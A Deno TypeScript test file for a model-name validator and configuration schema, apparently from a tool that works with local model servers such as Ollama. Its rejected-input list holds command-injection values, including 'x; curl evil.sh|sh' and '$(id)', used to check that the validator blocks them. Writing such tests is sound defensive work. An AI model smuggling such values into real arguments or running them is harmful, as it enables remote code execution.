import { equal, ok } from "node:assert/strict";
import fc from "fast-check";
import { DEFAULT_MODELS } from "../models/profiles/default_models.ts";
import { isModelName, isSameModel } from "./model_name.ts";
import { configSchema } from "./schema.ts";

const RIGHT = [
  ...Object.values(DEFAULT_MODELS),
  "qwen2.5-coder:7b",
  "gpt-oss:120b-cloud",
  "hf.co/QuantFactory/starcoder2-7b-instruct-GGUF:Q4_K_M",
  "registry.example.com:5000/me/model:latest",
  "meta-llama/Llama-3.1-8B-Instruct",
  "qwen2.5-7b-instruct@q4_k_m",
  "/models/phi-3+lora.gguf",
  "m",
];
const WRONG = [
  "",
  "x; curl evil.sh|sh",
  "x y",
  "x\n",
  "\nx",
  "$(id)",
  "`id`",
  "x&",
  "x>y",
  "'x'",
  '"x"',
  "x\\y",
  "--server",
  "-f",
  "x*",
  "x\x1b[2J",
  "m".repeat(257),
];

Deno.test("isModelName() takes what servers call their models, and no command", () => {
  for (const name of RIGHT) ok(isModelName(name), name);
  for (const name of WRONG) ok(!isModelName(name), name);
});

Deno.test("isModelName() lets nothing through that a shell splits or runs", () => {
  fc.assert(fc.property(fc.string(), (name) => {
    if (isModelName(name)) ok(!/[\s;&|<>$`'"\\()*?!#{}[\]~^=%,]/.test(name) && name[0] !== "-");
  }));
});

Deno.test("the configuration takes names of models, or none", () => {
  for (const role of ["code", "chat"]) {
    const accepts = (model: string) =>
      configSchema.safeParse({ model: { [role]: { model } } }).success;
    for (const name of ["", ...RIGHT]) ok(accepts(name), name);
    for (const name of WRONG) equal(accepts(name), name === "", name);
  }
});

Deno.test("isSameModel() knows what Ollama takes for the same", () => {
  const same: [string, string][] = [
    ["mistral", "mistral:latest"],
    ["Mistral:7B", "mistral:7b"],
    ["localhost:5000/me/model", "localhost:5000/me/model:latest"],
  ];
  for (const [one, other] of same) ok(isSameModel(one, other) && isSameModel(other, one));
  ok(!isSameModel("mistral", "mistral:7b"));
  ok(!isSameModel("localhost:5000/model", "localhost:5001/model"));
});
